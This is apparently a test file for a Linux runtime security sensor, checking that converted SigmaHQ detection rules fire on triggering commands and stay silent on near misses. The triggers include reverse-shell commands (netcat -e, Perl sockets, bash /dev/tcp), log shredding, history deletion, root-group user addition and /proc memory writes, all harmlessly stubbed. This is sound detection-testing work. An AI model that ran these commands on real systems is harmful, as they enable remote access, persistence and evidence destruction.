/**
 * Live: SigmaHQ's Linux rules (../shared/sigma), converted and loaded beside the bundled rules,
 * fire on the real action and stay silent on a near miss (case, wildcard and modifier edges),
 * with the real sensor on the real kernel. Tools the host lacks are copies of real programs under
 * the tool's name (toolCopy), so each case is one cheap exec.
 */
import { rmSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { after, before, test, type TestContext } from 'node:test';
import { liveSensor } from '../live/harness.js';
import { bundledRulesDir } from '../../src/config/paths.js';
import { loadRuleset } from '../../src/engine/load-ruleset.js';
import type { Ruleset } from '../../src/engine/ruleset.js';
import { SIGMA_RULES, sigmaRulesMissing } from '../support/sigma.js';
import { bash, RuleRunner, scratch, sh, toolCopy } from './support.js';

const dir = scratch('sigma');
after(() => rmSync(dir, { recursive: true, force: true }));
const tool = (name: string, src?: string): string => toolCopy(dir, name, src);

let rules: Ruleset | undefined;
let runner: RuleRunner | null = null;
async function sigmaRunner(t: TestContext): Promise<RuleRunner | null> {
  const missing = sigmaRulesMissing();
  if (missing !== null) {
    t.skip(missing);
    return null;
  }
  const live = await liveSensor(t);
  if (!live) return null;
  const linux = (c: string): string => join(SIGMA_RULES, 'linux', c);
  rules ??= loadRuleset(
    [bundledRulesDir(), linux('process_creation'), linux('file_event'), linux('network_connection')],
    'all',
    { minStatus: 'experimental' },
  );
  runner ??= new RuleRunner(live, rules);
  return runner;
}

/** [rule title, the action, its near miss]: argv built when the case runs. */
type Case = [string, () => string[], () => string[]];

const PROCESS: Case[] = [
  [
    'Shell Invocation via Apt - Linux',
    () => [tool('apt'), 'update', '-o', 'apt::update::pre-invoke::=/bin/sh'],
    () => [tool('apt'), 'update'],
  ],
  ['Scheduled Task/Job At', () => [tool('at'), 'now'], () => [tool('xat'), 'now']],
  ['Audit Rules Deleted Via Auditctl', () => [tool('auditctl'), '-D'], () => [tool('auditctl'), '-d']],
  ['Decode Base64 Encoded Text', () => [tool('base64'), '-d'], () => [tool('base64'), 'x']],
  ['Bash Interactive Shell', () => [tool('bash'), '-i', '-c', 'x'], () => [tool('bash'), '-c', 'x']],
  ['BPFtrace Unsafe Option Usage', () => [tool('bpftrace'), '--UNSAFE'], () => [tool('bpftrace'), '--safe']],
  [
    'Linux Setuid Capability Set on a Binary via Setcap Utility',
    () => [tool('setcap'), 'CAP_SETUID+ep', 'f'],
    () => [tool('setcap'), 'cap_net_raw+ep', 'f'],
  ],
  ['Capabilities Discovery - Linux', () => [tool('getcap'), '-r', '/'], () => [tool('getcap'), '-v', '/']],
  ['Capsh Shell Invocation - Linux', () => [tool('capsh'), '--'], () => [tool('capsh'), '--print']],
  ['Remove Immutable File Attribute', () => [tool('chattr'), '-i', 'f'], () => [tool('chattr'), '+i', 'f']],
  ['Crontab Enumeration', () => [tool('crontab'), '-l'], () => [tool('crontab'), '-e']],
  ['Remove Scheduled Cron Task/Job', () => [tool('crontab'), '-r'], () => [tool('crontab'), '-e']],
  [
    'Linux Logs Clearing Attempts',
    () => [tool('shred'), '/VAR/LOG/vigil-none'],
    () => [tool('shred'), '/var/lib/vigil-none'],
  ],
  ['Curl Usage on Linux', () => [tool('curl'), '--version'], () => [tool('curly'), '--version']],
  [
    'DD File Overwrite',
    () => ['/usr/bin/dd', 'if=/dev/zero', `of=${dir}/dd.out`, 'count=1'],
    () => ['/usr/bin/dd', 'if=/dev/urandom', `of=${dir}/dd.out`, 'count=1'],
  ],
  [
    'Potential Linux Process Code Injection Via DD Utility',
    () => [tool('dd'), 'of=/proc/1/mem'],
    () => [tool('dd'), 'of=/proc/1/maps'],
  ],
  ['Linux Doas Tool Execution', () => [tool('doas'), 'id'], () => [tool('doas2'), 'id']],
  [
    'Shell Invocation via Env Command - Linux',
    () => [tool('env'), '/bin/sh'],
    () => [tool('env'), '/bin/true'],
  ],
  [
    'ESXi VM Kill Via ESXCLI',
    () => [tool('esxcli'), 'VM', 'process', 'kill'],
    () => [tool('esxcli'), 'vm', 'process', 'info'],
  ],
  ['Group Has Been Deleted Via Groupdel', () => [tool('groupdel'), 'g'], () => [tool('groupadd'), 'g']],
  ['Named Pipe Created Via Mkfifo', () => [tool('mkfifo'), 'p'], () => [tool('mkfifo.sh'), 'p']],
  [
    'Mount Execution With Hidepid Parameter',
    () => [tool('mount'), '-o', 'remount,hidepid=2', '/proc'],
    () => [tool('mount'), '-o', 'remount,hidepid=0', '/proc'],
  ],
  [
    'Potential Netcat Reverse Shell Execution',
    () => [tool('nc'), '-e', 'bash', '10.0.0.1', '4444'],
    () => [tool('nc'), '-z', 'bash', '10.0.0.1', '4444'],
  ],
  ['Nohup Execution', () => [tool('nohup'), 'x'], () => [tool('nohupx'), 'x']],
  [
    'Potential Perl Reverse Shell Execution',
    () => [tool('perl'), '-e', 'use IO::Socket::INET; open(STDIN, fdopen($s))'],
    () => [tool('perl'), '-e', 'print 1'],
  ],
  [
    'Connection Proxy',
    () => [tool('proxyenv'), 'HTTP_PROXY=http://proxy:3128'],
    () => [tool('proxyenv'), 'http_proxy:3128'],
  ],
  [
    'Python WebServer Execution - Linux',
    () => [tool('python3'), '-m', 'http.server'],
    () => [tool('python3'), '-m', 'json.tool'],
  ],
  [
    'Python Spawning Pretty TTY Via PTY Module',
    () => [tool('python3'), '-c', 'import pty; pty.spawn("/bin/sh")'],
    () => [tool('python3'), '-c', 'import os'],
  ],
  [
    'Setuid and Setgid',
    () => sh(`: chown root ${dir}/f; chmod u+s ${dir}/f`),
    () => sh(`: chown root ${dir}/f; chmod u+x ${dir}/f`),
  ],
  [
    'Suspicious Curl Change User Agents - Linux',
    () => [tool('curl'), '-A', 'x', 'http://h'],
    () => [tool('curl'), '-H', 'x', 'http://h'],
  ],
  [
    'Potential Discovery Activity Using Find - Linux',
    () => [tool('find'), '/', '-perm', '-4000'],
    () => [tool('find'), '/', '-perm', '-644'],
  ],
  ['History File Deletion', () => [tool('rm'), `${dir}/.bash_history`], () => [tool('rm'), `${dir}/.bashrc`]],
  [
    'Print History File Contents',
    () => [tool('cat'), '/root/.ZSH_HISTORY'],
    () => [tool('cat'), '/root/.zshrc'],
  ],
  ['System Information Discovery', () => [tool('uname'), '-a'], () => [tool('unamex'), '-a']],
  [
    'Touch Suspicious Service File',
    () => [tool('touch'), '-t', '202001010000', 'x.service'],
    () => [tool('touch'), '-t', '202001010000', 'x.servic'],
  ],
  ['User Has Been Deleted Via Userdel', () => [tool('userdel'), 'u'], () => [tool('useradd'), 'u']],
  [
    'User Added To Root/Sudoers Group Using Usermod',
    () => [tool('usermod'), '-aG', 'root', 'bob'],
    () => [tool('usermod'), '-aG', 'users', 'bob'],
  ],
  [
    'Triple Cross eBPF Rootkit Execve Hijack',
    () => [tool('sudo'), 'execve_hijack'],
    () => [tool('sudo'), 'ls'],
  ],
  [
    'Linux Recon Indicators',
    () => [tool('find'), '.', '-name', '.htpasswd'],
    () => [tool('find'), '.', '-name', 'htpasswd'],
  ],
  [
    'Download File To Potentially Suspicious Directory Via Wget',
    () => [tool('wget'), '-O', '/tmp/x', 'http://h'],
    () => [tool('wget'), '-o', '/tmp/x', 'http://h'],
  ],
  [
    'Potential Xterm Reverse Shell',
    () => [tool('xterm'), '-display', '10.0.0.1:1'],
    () => [tool('xterm'), '-display', '10.0.0.1:12'],
  ],
  [
    'Linux Base64 Encoded Shebang In CLI',
    () => [tool('echo'), 'iyevymlul2jhc2gk'],
    () => [tool('echo'), 'IyEvYmluL2'],
  ],
  [
    'Shell Execution Of Process Located In Tmp Directory',
    () => [tool('runner', '/usr/bin/bash'), '-c', '/bin/sh -c true; true'],
    () => ['/usr/bin/bash', '-c', '/bin/sh -c true; true'],
  ],
];

const FILES: Case[] = [
  [
    'Triple Cross eBPF Rootkit Default Persistence',
    () => sh(`echo x > ${dir}/EBPFBACKDOOR`),
    () => sh(`echo x > ${dir}/ebpfbackdoor.d`),
  ],
  [
    'Suspicious Filename with Embedded Base64 Commands',
    () => sh(`echo x > '${dir}/{echo,aWQK}'`),
    () => sh(`echo x > '${dir}/echo,aWQK'`),
  ],
  [
    'Wget Creating Files in Tmp Directory',
    () => [tool('wget', '/usr/bin/touch'), `${dir}/page.html`],
    () => [tool('wget2', '/usr/bin/touch'), `${dir}/page.html`],
  ],
];

for (const [rule, hit, miss] of [...PROCESS, ...FILES]) {
  test(`Sigma: ${rule}`, async (t) => {
    const r = await sigmaRunner(t);
    if (!r) return;
    await r.fires(rule, hit());
    await r.silent(rule, miss());
  });
}

let server: Server | undefined;
let port = 0;
before(async () => {
  server = createServer((s) => s.destroy());
  await new Promise<void>((resolve) => server!.listen(0, '0.0.0.0', resolve));
  port = (server.address() as { port: number }).port;
});
after(() => server?.close());

test('Sigma: Linux Reverse Shell Indicator', async (t) => {
  const r = await sigmaRunner(t);
  if (!r) return;
  // bash's /dev/tcp connects; 127.0.0.2 is loopback too, but not one of the rule's filtered addresses.
  await r.fires('Linux Reverse Shell Indicator', bash(`exec 3<>/dev/tcp/127.0.0.2/${port}; exec 3>&-`), {
    'fd.sip': '127.0.0.2',
  });
  await r.silent('Linux Reverse Shell Indicator', bash(`exec 3<>/dev/tcp/127.0.0.1/${port}; exec 3>&-`));
});

test('Sigma rules keep their origin and attribution on the rule and in the alert output', async (t) => {
  const r = await sigmaRunner(t);
  if (!r) return;
  const alert = await r.fires('Capabilities Discovery - Linux', [tool('getcap'), '-R', '/'], {
    'proc.exepath': join(dir, 'getcap'),
  });
  const rule = rules!.info.rules.find((x) => x.name === 'Capabilities Discovery - Linux')!;
  if (rule.sigma?.author === undefined || rule.sigma.references.length === 0) throw new Error('origin lost');
  if (!alert.tags.includes('T1083') || !alert.tags.includes('mitre_discovery'))
    throw new Error(`tags ${alert.tags}`);
  if (!/^Capabilities Discovery - Linux \(Image=.*getcap CommandLine=/.test(alert.output))
    throw new Error(alert.output);
});
